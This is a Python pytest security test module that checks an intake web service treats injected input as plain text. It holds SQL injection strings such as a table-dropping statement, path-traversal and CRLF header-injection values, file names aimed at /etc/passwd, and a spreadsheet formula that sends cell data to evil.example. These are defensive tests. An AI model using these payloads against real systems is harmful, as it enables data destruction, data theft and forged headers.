"""Injection: whatever is written stays text, in SQL, in exported tables, paths and headers."""

import csv
import io

import pytest

from services.intake.tests.factories.clients import BASE, Desk
from tests.security.stands import Stand, Target

SQL = (
    "'",
    "' or '1'='1",
    "'; drop table case_; --",
    "1; select pg_sleep(5)--",
    "%' or 1=1 --",
    '"; --',
    "\\'; select 1 --",
    "$$;select 1;$$",
    "0x27 union select version()",
)

IN_A_PATH = ("'%20or%201=1--", "..%2f..%2fmetrics", "%00", "1%3bselect%201", "%0d%0aX-A:b")


async def test_no_parameter_is_taken_for_sql(stand: Stand) -> None:
    for target in {target.label: target for target in stand.targets("GET")}.values():
        client = stand.client(target.roles[0]) if target.roles else stand.running.client
        for name in texts_of(target):
            for payload in SQL:
                answer = await stand.ask(client, target, params={name: payload})

                assert answer.status_code < 500, f"{target.label} {name}={payload}"
                assert "syntax error" not in answer.text
                assert "psycopg" not in answer.text
                assert "asyncpg" not in answer.text


async def test_no_id_in_a_path_is_taken_for_sql_or_another_path(stand: Stand) -> None:
    client = stand.client("supervisor")
    for target in {target.label: target for target in stand.targets()}.values():
        if "{" not in target.template:
            continue
        for payload in IN_A_PATH:
            path = target.template.partition("{")[0] + payload
            answer = await client.request(target.method, path)

            assert answer.status_code in {403, 404, 405, 422, 400}, f"{target.method} {path}"
            assert "x-a" not in answer.headers


async def test_condition_that_is_always_true_finds_no_more_than_its_text(intake: Stand) -> None:
    clerk = intake.client("clerk")
    everything = (await clerk.get(f"{BASE}/cases")).json()["items"]

    found = (await clerk.get(f"{BASE}/cases", params={"case_number": "' or '1'='1"})).json()

    assert len(everything) > 1
    assert found["items"] == []


async def test_formula_in_what_people_write_is_text_in_the_exported_table(stand: Stand) -> None:
    formula = '=HYPERLINK("https://evil.example?"&A1)'
    for action in (formula, "+1+1", "@SUM(1)", "\t=1", "-2+3"):
        await stand.client("supervisor").get(
            audit_path(stand), params={"action": action, "actor": action}
        )

    exported = await stand.client("supervisor").get(f"{audit_path(stand)}/export")

    rows = csv.reader(io.StringIO(exported.text.lstrip("\ufeff")))
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}] == []


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "a\r\nSet-Cookie: stolen=1",
        'x"; filename="evil.html',
        "%2e%2e%2fpasswd",
        "/absolute/path.pdf",
        "name\x00.pdf",
    ],
)
async def test_file_name_is_never_a_path_or_a_header(intake: Stand, name: str) -> None:
    desk = Desk(intake.running)
    disposition = f"attachment; filename*=UTF-8''{name}".encode("latin-1", "replace")
    client = desk.as_applicant()
    before = set(intake.running.surroundings.directory.rglob("*"))

    answer = await client.post(
        f"{BASE}/uploads",
        content=b"%PDF-1.7\n%%EOF\n",
        headers=[(b"Content-Type", b"application/pdf"), (b"Content-Disposition", disposition)],
    )

    stored = set(intake.running.surroundings.directory.rglob("*")) - before
    assert "set-cookie" not in answer.headers
    assert "evil" not in str(answer.headers)
    assert all("passwd" not in path.name and "win.ini" not in path.name for path in stored)
    assert all(path.is_relative_to(intake.running.surroundings.directory) for path in stored)


def audit_path(stand: Stand) -> str:
    """Return where a service's audit trail is read."""
    return next(t.path for t in stand.targets("GET") if t.template.endswith("/audit"))


def texts_of(target: Target) -> list[str]:
    """Return the names of a route's query parameters, those of its models too."""
    names = [item.alias for item in target.route.dependant.query_params]
    for dependency in target.route.dependant.dependencies:
        names += [item.alias for item in dependency.query_params]
    return names or ["q"]
